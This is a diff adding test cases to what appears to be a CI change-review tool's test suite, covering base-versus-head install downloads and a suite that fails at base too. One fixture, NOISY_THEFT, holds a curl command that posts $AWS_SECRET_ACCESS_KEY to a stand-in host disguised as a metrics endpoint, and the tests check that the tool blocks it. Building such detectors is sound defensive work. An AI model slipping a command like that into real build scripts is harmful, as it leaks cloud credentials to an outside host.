@@ -338,6 +338,17 @@ TOX_PROJECT = {
     "    steps:\n      - run: pip install tox && tox -e py3\n",
 }
 
+# --------------------------------------------------------------------------- item 6: base vs head
+
+# The project's own install already downloads a data file (a model, a fixture).
+DOWNLOADS = "curl -sS -m 20 -o data.bin https://data.example.test/model.bin\necho installed\n"
+# The head hides a theft in that noise: the same host, one more request.
+NOISY_THEFT = DOWNLOADS + (
+    'curl -sS -m 20 -o /dev/null --data-binary "k=$AWS_SECRET_ACCESS_KEY" '
+    "https://data.example.test/metrics\n"
+)
+FAILING = "echo '1 failed, 11 passed'\nexit 1\n"
+
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
     "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
@@ -360,6 +371,9 @@ CASES: dict[str, Case] = {
     "tox-project": Case(
         TOX_PROJECT, {"clock/__init__.py": TOX_PROJECT["clock/__init__.py"] + "#\n"}
     ),
+    "base-downloads": Case(scripted(install=DOWNLOADS), {"calc.py": CALC + "# v2\n"}),
+    "base-noise": Case(scripted(install=DOWNLOADS), {"ci/install.sh": NOISY_THEFT}),
+    "fails-at-base-too": Case(scripted(test=FAILING), {"calc.py": CALC + "# v2\n"}),
     # The head adds a wheel from a host of its own to the test group: build files are read
     # at head, so it is installed, and that is what the install is judged on.
     "group-url": Case(
@@ -670,3 +684,46 @@ def test_a_test_dependency_from_a_host_of_its_own_blocks(reviews: Reviews) -> No
     assert "wheels.evil.test" in hit["title"]
     # The install ran fully isolated; the checks after it never ran (the install failed).
     assert review.report("install")["isolation"] == "full"
+
+
+# --------------------------------------------------------------------------- item 6
+
+
+def test_a_download_the_base_install_makes_too_is_only_noted(reviews: Reviews) -> None:
+    review = reviews.get("base-downloads")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    (finding,) = review.verdict["findings"]
+    assert (finding["rule"], finding["severity"]) == ("install-egress", "info")
+    assert finding["title"].startswith(
+        "also at base: install: 1 request (GET) to data.example.test"
+    )
+    ids = [item["id"] for item in finding["evidence"]]
+    assert any(i.startswith("install:egress:") for i in ids), ids
+    assert any(i.startswith("base:egress:") for i in ids), ids
+    base = review.report("base")
+    assert base["status"] == "ok", base
+    assert base["isolation"] == "full"
+    assert_whole(review)
+
+
+def test_a_theft_hidden_in_the_bases_noise_blocks(reviews: Reviews) -> None:
+    review = reviews.get("base-noise")
+    assert review.code == 1, str(review)
+    assert review.verdict["state"] == "blocked", str(review)
+    assert critical_rules(review) == {"decoy-egress"}, review.verdict["findings"]
+    (hit,) = findings(review, "decoy-egress")
+    assert "data.example.test" in hit["title"]
+    assert any(item.get("decoy_seen") == ["AWS_SECRET_ACCESS_KEY"] for item in hit["evidence"])
+    assert_whole(review)
+
+
+def test_a_suite_that_fails_at_base_too_is_not_held_against_the_change(reviews: Reviews) -> None:
+    review = reviews.get("fails-at-base-too")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    (finding,) = review.verdict["findings"]
+    assert (finding["rule"], finding["severity"]) == ("tests-fail", "info")
+    assert finding["title"].startswith("the suite fails at base too: ")
+    assert review.report("base")["status"] == "failed"
+    assert_whole(review)
